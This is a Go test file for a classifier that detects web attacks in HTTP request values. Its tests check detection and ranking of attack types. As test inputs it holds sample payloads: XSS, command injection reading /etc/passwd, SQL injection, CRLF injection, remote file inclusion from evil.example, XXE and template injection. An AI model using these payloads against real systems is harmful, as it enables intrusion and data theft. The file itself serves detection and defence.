package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestDetectValueXSS(t *testing.T) {
	attacks := DetectValue(`/search?q=<script>alert(1)</script>`)
	assert.Contains(t, attacks, AttackXSS)
}

func TestDetectValueCommandExecution(t *testing.T) {
	attacks := DetectValue(`/index.html?cmd=;cat+/etc/passwd`)
	assert.Contains(t, attacks, AttackCmdExec)
	// /etc/ also matches local file inclusion.
	assert.Contains(t, attacks, AttackLFI)
	// Higher priority attack is reported first.
	assert.Equal(t, AttackCmdExec, attacks[0])
}

func TestDetectValueSQLiQuoteAndIndicator(t *testing.T) {
	attacks := DetectValue(`/login?id=1' OR '1'='1`)
	assert.Contains(t, attacks, AttackSQLI)
}

func TestDetectValueSQLiKeywordAlone(t *testing.T) {
	attacks := DetectValue(`/products?id=1 UNION SELECT password FROM users`)
	assert.Contains(t, attacks, AttackSQLI)
}

func TestDetectValueNoFalseSQLiOnPlainQuote(t *testing.T) {
	attacks := DetectValue(`/search?q=o'brien`)
	assert.NotContains(t, attacks, AttackSQLI)
}

func TestDetectValueCRLF(t *testing.T) {
	attacks := DetectValue("/page\r\nSet-Cookie: admin=true")
	assert.Contains(t, attacks, AttackCRLF)
}

func TestDetectValueRFI(t *testing.T) {
	attacks := DetectValue(`/include?page=http://evil.example/shell.txt`)
	assert.Contains(t, attacks, AttackRFI)
}

func TestDetectValueXXE(t *testing.T) {
	attacks := DetectValue(`<?xml version="1.0"?><!DOCTYPE foo SYSTEM "file:///etc/passwd">`)
	assert.Contains(t, attacks, AttackXXE)
}

func TestDetectValueTemplateInjection(t *testing.T) {
	assert.Contains(t, DetectValue(`/page?name={{7*7}}`), AttackTemplateInjection)
	assert.Contains(t, DetectValue(`<%= system("id") %>`), AttackTemplateInjection)
}

func TestDetectValuePHPObjectInjection(t *testing.T) {
	attacks := DetectValue(`;O:8:"stdClass":0:{}`)
	assert.Contains(t, attacks, AttackPHPObjectInjection)
}

func TestXSSOutranksMediumAttacks(t *testing.T) {
	attacks := DetectValue(`<a href="/etc/passwd">x</a>`)
	assert.Contains(t, attacks, AttackXSS)
	assert.Contains(t, attacks, AttackLFI)
	assert.Equal(t, AttackXSS, attacks[0])
}

func TestDetectRequestCookiesOnlySubset(t *testing.T) {
	cookies := map[string]string{"session": `<script>alert(1)</script>`}
	attacks := DetectRequest("/", "", "", cookies)
	// XSS in cookies is not scanned; only SQLi and PHP object injection.
	assert.NotContains(t, attacks, AttackXSS)

	cookies = map[string]string{
		"a": `O:4:"User":0:{}`,
		"b": `' OR 1=1 --`,
	}
	attacks = DetectRequest("/", "", "", cookies)
	assert.Contains(t, attacks, AttackPHPObjectInjection)
	assert.Contains(t, attacks, AttackSQLI)
}

func TestPrimaryAttackFallsBackToBenignLabel(t *testing.T) {
	assert.Equal(t, LabelIndex, PrimaryAttack("/", "", "", nil))
	assert.Equal(t, LabelIndex, PrimaryAttack("/index.html", "", "", nil))
	assert.Equal(t, LabelWPContent, PrimaryAttack("/wp-content/uploads/a.php", "", "", nil))
	assert.Equal(t, LabelUnknown, PrimaryAttack("/robots.txt", "", "", nil))
}

func TestDetectRequestDeduplicates(t *testing.T) {
	attacks := DetectRequest(`/a?q='--`, `payload: ' OR 1=1 --`, "", nil)
	count := 0
	for _, a := range attacks {
		if a == AttackSQLI {
			count++
		}
	}
	assert.Equal(t, 1, count)
}

func TestDetectValueEmpty(t *testing.T) {
	assert.Empty(t, DetectValue(""))
}
